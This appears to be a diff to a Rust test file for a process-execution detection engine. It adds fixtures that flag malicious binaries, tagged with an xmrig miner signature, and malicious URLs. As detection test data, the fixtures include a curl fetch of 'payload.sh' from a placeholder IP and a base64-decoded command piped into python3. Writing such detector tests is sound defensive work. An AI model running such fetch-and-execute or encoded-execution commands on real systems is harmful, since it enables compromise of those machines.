@@ -31,6 +31,7 @@ fn ev(exe: &str, args: &[&str]) -> ExecEvent {
             sha256: None,
             verdict: None,
             key: None,
+            ..Default::default()
         },
         args: args.iter().map(|a| a.to_string()).collect(),
         arguments_truncated: false,
@@ -38,6 +39,7 @@ fn ev(exe: &str, args: &[&str]) -> ExecEvent {
         env: vec![],
         stdio: [Stdio::File { path: "/dev/null".into() }, Stdio::Pipe { inode: 7 }, Stdio::Pipe { inode: 7 }],
         ancestors: vec![],
+        ..Default::default()
     }
 }
 
@@ -61,6 +63,12 @@ fn env(mut e: ExecEvent, k: &str, v: &str) -> ExecEvent {
 
 fn verdict(mut e: ExecEvent, v: Verdict) -> ExecEvent {
     e.binary.verdict = Some(v);
+    e
+}
+
+fn malicious(mut e: ExecEvent) -> ExecEvent {
+    e.binary.signatures =
+        vec![crate::event::SignatureHit { rule: "miner_xmrig_family".into(), family: Some("xmrig".into()) }];
     e
 }
 
@@ -135,6 +143,15 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("piped_encoded_code_execution", ev("/bin/bash", &["bash", "-c", "echo cHJpbnQoMSk= | base64 --decode | python3"])),
         ("added_binary_executed", verdict(ev("/app/bin/helper", &["helper"]), Verdict::Added)),
         ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified)),
+        ("added_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
+        ("modified_malicious_binary", malicious(verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified))),
+        ("builtin_malicious_binary", malicious(verdict(ev("/usr/bin/xmrig", &["xmrig"]), Verdict::Builtin))),
+        ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
+        ("malicious_url_observed", {
+            let mut e = ev("/usr/bin/curl", &["curl", "http://203.0.113.66/payload.sh"]);
+            e.indicators = vec!["http://203.0.113.66/payload.sh".into()];
+            e
+        }),
     ]
 }
 
@@ -213,6 +230,11 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
         ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
         ("added_binary_executed", ev("/usr/bin/ls", &["ls"])),
+        ("added_binary_executed", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
+        ("added_malicious_binary", verdict(ev("/tmp/tool", &["tool"]), Verdict::Added)),
+        ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
+        ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
+        ("malicious_url_observed", ev("/usr/bin/curl", &["curl", "https://example.com/"])),
     ]
 }
 
